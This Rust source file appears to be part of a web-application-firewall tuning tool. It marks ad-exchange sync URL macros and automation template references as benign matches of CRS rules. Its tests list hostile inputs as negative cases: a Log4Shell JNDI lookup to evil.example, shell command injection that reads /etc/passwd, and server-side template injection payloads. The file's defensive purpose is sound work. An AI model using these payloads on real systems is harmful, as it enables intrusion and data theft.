//! Macros in a URL carried as a parameter, and references in a template. Ad exchanges and data platforms sync their user ids by redirecting the
//! browser from one to the next: each passes the next one's URL along with a placeholder it fills in before it
//! redirects (`partner_url=http://dpm.demdex.net/ibs:dpid=540&dpuuid=${TA_DEVICE_ID}`, `google_hm=${BASE64_UID_ENC}`,
//! `provider_id=${profile_id}`), and pages load a dozen such syncs. `${NAME}` is also how a shell expands a variable
//! and how PHP reads one inside a string, so CRS's rules for both (932130, 933135) flag every sync. In a URL whose
//! every `${...}` holds a plain name, nothing runs: no command, no call, no lookup (`${jndi:...}`), only a name.
//! (A placeholder that is a whole value, `put=${UID}` of a sync URL sent unencoded, still counts: there it is
//! what CRS's tests of both families send.)

use super::Shape;
use super::shape::data_shape;

/// Why the `${...}` the pattern hit (`hit`) are a URL's macros: `form`, one of the value's decoded forms, is an
/// `http(s)` URL once its `${NAME}` placeholders are read as names, with no other `$`.
pub fn placeholders(hit: &[u8], form: &[u8]) -> Option<String> {
    memchr::memmem::find(hit, b"${")?;
    let url = names_for_macros(form)?;
    (!url.contains(&b'$') && data_shape(&url) == Some(Shape::Url)).then(|| {
        "`${...}` are macros of a URL passed on for a redirect (an ad exchange's user sync), plain names \
         the next server fills in: no command, call or lookup"
            .to_owned()
    })
}

/// `value` with each `${NAME}` (a letter or `_`, then letters, digits and `_`) written as `NAME`; None when a
/// `${` holds anything else.
fn names_for_macros(value: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(value.len());
    let mut rest = value;
    while let Some(start) = memchr::memmem::find(rest, b"${") {
        out.extend_from_slice(&rest[..start]);
        let inside = &rest[start + 2..];
        let end = inside.iter().position(|&b| b == b'}')?;
        let name = &inside[..end];
        let plain = name
            .first()
            .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
            && name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_');
        if !plain {
            return None;
        }
        out.extend_from_slice(name);
        rest = &inside[end + 1..];
    }
    out.extend_from_slice(rest);
    Some(out)
}

/// Why the template expressions in `value` that CRS's pattern looks for (`{{...}}` with a `(`, a `*` or a `__`
/// in it) are references to named values: automation tools map one step's fields into the next as
/// `{{step__field}}` (Zapier's `{{926126525__phone}}`), a name whose parts a double underscore joins. Server-side
/// template injection needs a call, an operator or a dunder attribute of Python's objects (`{{''.__class__}}`,
/// `{{config.__init__}}`: `__` where a name part starts and ends); a dotted name of letters, digits and inner
/// underscores has none. Every such expression of the value must be one, and the value must hold no other kind
/// the pattern reads (`#{...}`, `<%...%>`).
pub fn template_references(hit: &[u8], value: &[u8]) -> Option<String> {
    if !hit.starts_with(b"{{")
        || memchr::memmem::find(value, b"#{").is_some()
        || memchr::memmem::find(value, b"<%").is_some()
    {
        return None;
    }
    let mut rest = value;
    while let Some(start) = memchr::memmem::find(rest, b"{{") {
        let inside = &rest[start + 2..];
        let end = inside.iter().position(|&b| b == b'}')?;
        let expression = &inside[..end];
        let flagged = expression.iter().any(|b| matches!(b, b'(' | b'*'))
            || memchr::memmem::find(expression, b"__").is_some();
        if flagged && !is_reference(expression.trim_ascii()) {
            return None;
        }
        rest = &inside[end..];
    }
    Some(
        "a template's references to named values (an automation's field mapping, `{{step__field}}`): no call, \
         operator or dunder attribute"
            .to_owned(),
    )
}

/// A dotted name of letters, digits and underscores, no part of which starts or ends with `_`.
fn is_reference(name: &[u8]) -> bool {
    !name.is_empty()
        && name
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.'))
        && name
            .split(|&b| b == b'.')
            .all(|part| !part.is_empty() && !part.starts_with(b"_") && !part.ends_with(b"_"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judged(value: &str) -> bool {
        placeholders(b"${x}", value.as_bytes()).is_some()
    }

    #[test]
    fn a_sync_url_with_placeholders_runs_nothing() {
        assert!(judged(
            "http://dpm.demdex.net/ibs:dpid=540&dpuuid=${TA_DEVICE_ID}"
        ));
        assert!(judged(
            "https://cm.g.doubleclick.net/pixel?google_nid=a&google_hm=${BASE64_UID_ENC}&google_cm"
        ));
        assert!(judged(
            "https://x.skimresources.com/?provider=lotame&provider_id=${profile_id}"
        ));
    }

    #[test]
    fn a_field_mapping_is_a_name_and_a_dunder_is_not() {
        let judged = |value: &[u8]| {
            let at = memchr::memmem::find(value, b"{{").unwrap_or(0);
            template_references(&value[at..], value).is_some()
        };
        assert!(judged(b"{{926126525__phone}}"));
        assert!(judged(
            b"Hi {{ steps.trigger__first_name }}, order {{12__id}} shipped"
        ));
        assert!(!judged(b"{{12__id}} {{7*7}}"));
        assert!(!judged(b"{{12__id}} #{7*7}"));
        for injection in [
            &b"{{''.__class__}}"[..],
            b"{{config.__init__}}",
            b"{{__import__}}",
            b"{{7*7}}",
            b"{{lower(1.email)}}",
            b"{{ x.__dict__ }}",
        ] {
            assert!(!judged(injection), "{}", String::from_utf8_lossy(injection));
        }
    }

    #[test]
    fn anything_but_a_name_in_braces_or_outside_a_url_counts() {
        assert!(!judged("http://a.example/?u=${jndi:ldap://evil.example/a}"));
        assert!(!judged("http://a.example/?u=${system('id')}"));
        assert!(!judged("http://a.example/?u=${IFS}$(id)"));
        assert!(!judged(";cat${IFS}/etc/passwd"));
        assert!(!judged("${UUID}"));
        assert!(placeholders(b"$(id)", b"http://a.example/?u=${UUID}").is_none());
    }
}
